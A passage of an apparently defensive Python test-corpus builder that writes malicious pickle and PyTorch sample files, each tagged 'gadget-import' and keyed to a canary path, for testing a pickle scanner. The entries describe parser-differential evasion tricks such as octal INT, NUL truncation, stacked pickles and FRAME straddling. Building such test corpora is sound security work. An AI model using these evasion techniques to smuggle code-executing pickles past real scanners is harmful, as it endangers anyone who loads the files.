    S("first_opcode_binbytes.bin", "a pickle that starts like a float buffer (SHORT_BINBYTES)",
      "", "gadget-import", _first_binbytes),
    S("zip_member_any_opcode.pt", "a zip member that is a pickle starting with INT", "",
      "gadget-import", _member_any_opcode),
    S("storage_any_opcode.pt", "a storage member that is a pickle starting with BININT1", "",
      "gadget-import", _storage_any_opcode),
    S("stacked_no_proto.pkl", "a second pickle with no PROTO after a benign one", "",
      "gadget-import", _stacked_no_proto),
    S("long_text_line.pkl", "a text operand of 70 000 bytes (CPython has no line limit)", "",
      "gadget-import", _long_line),
    S("int_octal.pkl", "INT 010: _pickle.c reads octal 8 (strtol base 0)", "",
      "gadget-import", _int_octal),
    S("int_nul.pkl", "INT 12\\0junk: _pickle.c stops at the NUL", "", "gadget-import",
      _int_nul),
    S("long_base0.pkl", "LONG 0x10L: int(text, 0)", "", "gadget-import", _long_base0),
    S("setitem_on_list.pkl", "SETITEM on a list (PyObject_SetItem takes any target)", "",
      "gadget-import", _setitem_list),
    S("frame_straddle.pt", "an opcode across a FRAME's end: torch.load reads data.pkl from "
      "io.BytesIO and skips the rest of the frame", "", "gadget-import", _frame_straddle),
]


def available(sample: Sample) -> bool:
    if not sample.needs:
        return True
    try:
        __import__(sample.needs)
    except ImportError:
        return False
    return True


def build_all(outdir: str | os.PathLike[str], canary: str) -> dict[str, Path]:
    """Write every sample whose builder can run here; name -> path."""
    out = Path(outdir)
    out.mkdir(parents=True, exist_ok=True)
    sys.path.insert(0, str(Path(__file__).parent))
    try:
        paths = {}
        for sample in SAMPLES:
            if available(sample):
                path = out / sample.name
                path.write_bytes(sample.build(canary))
                paths[sample.name] = path
        return paths
    finally:
        sys.path.remove(str(Path(__file__).parent))


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/security/corpus.py OUTDIR")
    target = sys.argv[1]
    for path in build_all(target, os.path.join(os.path.abspath(target), "CANARY")).values():
        print(path)
